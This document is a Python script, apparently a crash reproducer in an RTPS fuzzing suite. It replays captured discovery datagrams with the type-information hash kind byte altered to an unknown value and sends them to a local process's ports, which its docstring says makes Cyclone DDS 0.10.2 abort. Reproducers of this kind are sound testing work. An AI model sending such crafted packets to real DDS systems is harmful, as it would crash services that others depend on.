#!/usr/bin/env python3
"""Announces endpoints whose types have a hash of an unknown kind. Cyclone DDS 0.10.2 aborts at them.

usage: deadly.py --capture FILE --pid PID

FILE holds the datagrams of tests/rtps/peer (see fuzz.py). PID is the attacked participant's process.
"""
import argparse
import struct
import time

from rtps import Reporter, captured, from_port, heard_prefix, own_of, own_socket, target_of

TYPE_INFORMATION = b"\x75\0"
HASH_MINIMAL, HASH_OF_NO_KIND = b"\xf1", b"\xff"


def with_unknown_hash(datagram):
    at = datagram.find(TYPE_INFORMATION)
    if at < 0:
        return datagram
    at = datagram.index(HASH_MINIMAL, at)
    return datagram[:at] + HASH_OF_NO_KIND + datagram[at + 1:]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--capture", required=True)
    parser.add_argument("--pid", type=int, required=True)
    options = parser.parse_args()
    datagrams = captured(options.capture)
    own, target, to = own_of(datagrams), target_of(datagrams), target_of(datagrams)
    prefix = struct.pack(">IQ", 0x01100001, time.monotonic_ns())
    out = own_socket()
    until = time.monotonic() + 5
    while len(Reporter.open_ports(options.pid)) < 3 and time.monotonic() < until:
        time.sleep(0.05)  # it is still starting
    for number, datagram in enumerate(datagrams):
        datagram = from_port(with_unknown_hash(datagram).replace(own, prefix).replace(target, to), out.getsockname()[1])
        for port in Reporter.open_ports(options.pid):
            out.sendto(datagram, ("127.0.0.1", port))
        time.sleep(0.3 if number == 0 else 0.001)
        to = heard_prefix(out, to)


main()
